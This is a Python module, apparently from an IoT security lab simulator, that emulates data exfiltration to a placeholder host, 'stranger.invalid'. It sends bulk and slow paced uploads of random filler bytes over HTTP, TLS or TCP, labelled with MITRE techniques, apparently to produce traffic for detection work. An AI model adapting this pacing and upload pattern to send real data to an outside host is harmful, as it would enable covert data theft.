"""Carrying data out: much at once, or a little again and again.

In: a host of the attacker's inside the lab. Out: uploads of random bytes.
Must never: send anything that a device really knows.
"""

from __future__ import annotations

import contextlib
from typing import Any, Final, Literal

from pydantic import Field

from thingwarden.domain.taxonomy import AttackClass
from thingwarden.lab.behaviour.act import ActKind, ActSettings
from thingwarden.lab.behaviour.attacks import breadth
from thingwarden.lab.behaviour.attacks.pacing import Rhythm
from thingwarden.lab.behaviour.protocol import http, session
from thingwarden.lab.behaviour.protocol.buffered import Buffered
from thingwarden.lab.behaviour.reach import Ending, leave
from thingwarden.lab.directory import SERVICES
from thingwarden.lab.timeline import Aim
from thingwarden.lab.world import Stream, World

_TCP: Final = 6
STRANGER: Final = SERVICES["stranger.invalid"].address
_ANSWER_S: Final = 60.0


class ExfiltrationSettings(ActSettings):
    """Uploads to one host.

    Attributes:
        way: HTTP, HTTP over TLS, or counted messages over bare TCP.
        port: of the host; 0 is the usual one of ``way``.
        part_bytes: sent at a time; ``count`` parts, ``period_s`` from one to the next, ``jitter`` as a part of it.
        piece_bytes: a part is sent in pieces of so much, ``piece_gap_s`` apart; 0 at once.
        is_kept: one connection for all parts.
        answer_bytes: of the answer to a part.
        ending: how a connection is left.
    """

    targets: tuple[str, ...] = (STRANGER,)
    way: Literal["http", "tls", "messages"] = "http"
    port: int = Field(default=0, ge=0, le=65535)
    part_bytes: int = breadth.number(2_000_000, 100_000, 10_000_000)
    count: int = breadth.number(2, 1, 12)
    period_s: float = breadth.number(3.0, 0.1, 120.0)
    jitter: float = breadth.one_of(0.3, 0.0, 0.1, 1.0)
    piece_bytes: int = breadth.number(65_536, 2_000, 65_536)
    piece_gap_s: float = breadth.rarely(0.0, 0.002, 0.2, likely=0.4)
    is_kept: bool = breadth.flag(False)
    answer_bytes: int = breadth.number(60, 1, 2_000)
    ending: Ending = "close"

    @property
    def asked_port(self) -> int:
        """The port that is connected to."""
        return self.port or {"http": 80, "tls": 443, "messages": 4545}[self.way]


class DripSettings(ExfiltrationSettings):
    """As ``ExfiltrationSettings``, a little at a time."""

    part_bytes: int = breadth.number(4_000, 100, 60_000)
    count: int = breadth.number(500, 10, 5_000)
    period_s: float = breadth.number(30.0, 2.0, 3_600.0)
    answer_bytes: int = breadth.number(20, 1, 400)


async def exfiltrate(world: World, settings: ExfiltrationSettings) -> None:
    """Upload the parts, each over its own connection or all over one."""
    rhythm = Rhythm(world, settings.period_s, lasts_s=settings.lasts_s, count=settings.count, jitter=settings.jitter)
    stream: Stream | None = None
    while await rhythm.beat():
        with contextlib.suppress(OSError):
            stream = stream or await _open(world, settings)
            if await _upload(world, stream, settings, rhythm) and settings.is_kept:
                continue
            await leave(world, stream, settings.ending)
        if stream is not None:
            await stream.close()
        stream = None
    if stream is not None:
        await leave(world, stream, settings.ending)


async def _open(world: World, settings: ExfiltrationSettings) -> Stream:
    tls_name = "stranger.invalid" if settings.way == "tls" else ""
    return await world.connect(world.rng.choice(settings.targets), settings.asked_port, tls_name=tls_name)


async def _upload(world: World, stream: Stream, settings: ExfiltrationSettings, rhythm: Rhythm) -> bool:
    """Send one part and read its answer; false where the bound in time came first."""
    if settings.way == "messages":
        turn = session.Turn(sent_bytes=settings.part_bytes, answer_bytes=settings.answer_bytes)
        await stream.send(session.encode_turn(turn))
    else:
        kept = "keep-alive" if settings.is_kept else "close"
        head = (
            f"POST /up?n={settings.answer_bytes} HTTP/1.1\r\nHost: {stream.peer[0]}\r\n"
            f"Content-Length: {settings.part_bytes}\r\nConnection: {kept}\r\n\r\n"
        )
        await stream.send(head.encode())
    left_bytes = settings.part_bytes
    while left_bytes > 0:
        if rhythm.left_s == 0.0:
            return False
        piece = http.filler(min(left_bytes, settings.piece_bytes))
        await stream.send(piece)
        left_bytes -= len(piece)
        if settings.piece_gap_s:
            await world.sleep(settings.piece_gap_s)
    if settings.way == "messages":
        await Buffered(stream).skip(settings.answer_bytes, _ANSWER_S)
    else:
        await http.read_answer(Buffered(stream), _ANSWER_S)
    return True


def _aims(settings: ExfiltrationSettings) -> tuple[Aim, ...]:
    return tuple(Aim(peer=target, proto=_TCP, ports=(settings.asked_port,)) for target in settings.targets)


EXFILTRATIONS: Final[dict[str, ActKind[Any]]] = {
    "exfiltrate_bulk": ActKind(
        about="Megabytes go to a host never met.",
        settings=ExfiltrationSettings,
        run=exfiltrate,
        aims=_aims,
        attack_class=AttackClass.EXFILTRATION,
        technique="T1041",
    ),
    "exfiltrate_slow": ActKind(
        about="A little goes to a host never met, again and again.",
        settings=DripSettings,
        run=exfiltrate,
        aims=_aims,
        attack_class=AttackClass.EXFILTRATION,
        technique="T1029",
    ),
}
